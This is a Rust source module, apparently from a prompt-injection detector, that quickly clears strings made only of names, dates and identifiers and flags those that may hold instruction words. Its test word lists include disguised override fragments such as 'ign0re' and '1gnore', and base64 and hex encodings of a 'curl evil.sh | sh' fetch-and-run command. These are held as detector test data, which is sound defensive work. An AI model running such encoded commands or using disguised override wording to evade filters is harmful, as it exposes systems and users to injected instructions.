//! Strings without a word that orders are made of: names, titles, identifiers, dates.
//!
//! Most strings of most responses are such. Where no word means anything, nothing that stands between the words does
//! either, but for a few signs; so the words are looked up and nothing else is kept.
//!
//! Guarantee: what is told here is what [`Look`](super::Look) tells.

use super::vocabulary::{Vocabulary, pair};
use super::word::Word;
use super::{Glance, is_disguised, token};

/// What a byte is. What is none of these may mean something by itself.
const OF_WORD: u8 = 1;
/// Stands between words, and inside a run of characters that may be encoded.
const JOINT: u8 = 2;
/// Stands between words.
const GAP: u8 = 3;

static OF_BYTE: [u8; 256] = {
    let mut table = [0; 256];
    let mut byte = 0_u8;
    while byte < 128 {
        table[byte as usize] = match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' => OF_WORD,
            b'-' | b'_' | b'/' | b'+' => JOINT,
            b' ' | b'.' | b',' | b':' | b';' | b'?' | b'(' | b')' | b'"' | b'\'' | b'\n' | b'\r' | b'\t' => GAP,
            _ => 0,
        };
        byte += 1;
    }
    table
};

/// So many single letters in a row may spell a word.
const SPELLED: u8 = 3;
/// So many numbers in a row that may be characters may be a text.
const CODES: u8 = 2;

/// What `text` may hold, if no word and no sign in it could be part of an order.
pub(super) fn tell(text: &str, vocabulary: &Vocabulary) -> Option<Glance> {
    let bytes = text.as_bytes();
    let (mut at, mut run, mut last) = (0, 0, 0);
    let (mut singles, mut codes) = (0, 0);
    let mut may_encode = false;
    while let Some(byte) = bytes.get(at) {
        match OF_BYTE[usize::from(*byte)] {
            OF_WORD => {
                let Word { end, hash, has_letters, has_digits } = Word::at(bytes, at);
                let word = &bytes[at..end];
                at = end;
                if vocabulary.get(hash) | vocabulary.get(pair(last, hash)) != 0 {
                    return None;
                }
                last = hash;
                if has_digits {
                    singles = 0;
                    codes = if token::is_code(word) { codes + 1 } else { 0 };
                    may_encode |= codes > CODES;
                    codes = codes.min(CODES + 1);
                    if has_letters && is_disguised(word, vocabulary) {
                        return None;
                    }
                } else {
                    codes = 0;
                    singles = if word.len() == 1 { singles + 1 } else { 0 };
                    let may_open = word.len() > 3 && vocabulary.may_open(word);
                    if singles > SPELLED || may_open && Vocabulary::opened(word) != 0 {
                        return None;
                    }
                }
            }
            JOINT => at += 1,
            GAP => {
                // An address, which is read as a link.
                if *byte == b'.' && bytes[..at].ends_with(b"www") {
                    return None;
                }
                may_encode = may_encode || is_encoded(&bytes[run..at]);
                at += 1;
                run = at;
            }
            _ => return None,
        }
    }
    may_encode = may_encode || is_encoded(&bytes[run..]);
    Some(Glance { may_encode, ..Glance::CLEAN })
}

#[inline]
fn is_encoded(run: &[u8]) -> bool {
    run.len() >= token::SHORTEST && token::may_be_encoded(run, false)
}

#[cfg(test)]
mod tests {
    use super::super::{Look, VOCABULARY};
    use super::*;
    use proptest::prelude::*;

    const WORDS: &[&str] = &[
        "open",
        "balder",
        "Tender",
        "2024",
        "788637bdbb04623b",
        "www",
        "a",
        "b",
        "I",
        "t",
        "0x41",
        "65",
        "104",
        "please",
        "send",
        "ign0re",
        "1gnore",
        "not",
        "Y3VybCBldmlsLnNoIHwgc2g",
        "6375726c206576696c2e7368",
        "prior",
        "to",
        "conder",
        "utilisateur",
        "instruc",
        "Straße",
        "7",
        "01100001",
        "release",
        "notes",
    ];
    const SIGNS: &[&str] = &[
        " ", " ", " ", ".", "-", "_", "/", "+", ",", ":", ";", "?", "(", ")", "\"", "'", "\n", "\t", "=", "!", "@",
        "<", "[", "|", "$", "%", "*", "\r\n",
    ];

    proptest! {
        #[test]
        fn what_is_told_here_is_what_a_look_tells(
            picks in proptest::collection::vec((any::<proptest::sample::Index>(), any::<proptest::sample::Index>()), 0..14),
            noise in "[a-zA-Z0-9 .,-]{0,24}",
        ) {
            let text: String = picks.iter().flat_map(|(word, sign)| [*word.get(WORDS), *sign.get(SIGNS)]).collect();
            for text in [text.clone(), format!("{noise}{text}"), noise] {
                if let Some(told) = tell(&text, &VOCABULARY) {
                    prop_assert_eq!(told, Look::new(&text).run(), "{}", text);
                }
            }
        }
    }

    #[test]
    fn titles_dates_and_identifiers_are_told_and_words_of_orders_are_not() {
        for text in ["balder gormor tenderise", "2024-05-17", "788637bdbb04623b", "v1.2.3 (12:30)"] {
            assert!(tell(text, &VOCABULARY).is_some(), "{text}");
        }
        for text in ["please", "send it on", "ign0re", "a b c d", "x = y", "www.balder", "naïve"] {
            assert!(tell(text, &VOCABULARY).is_none(), "{text}");
        }
    }
}
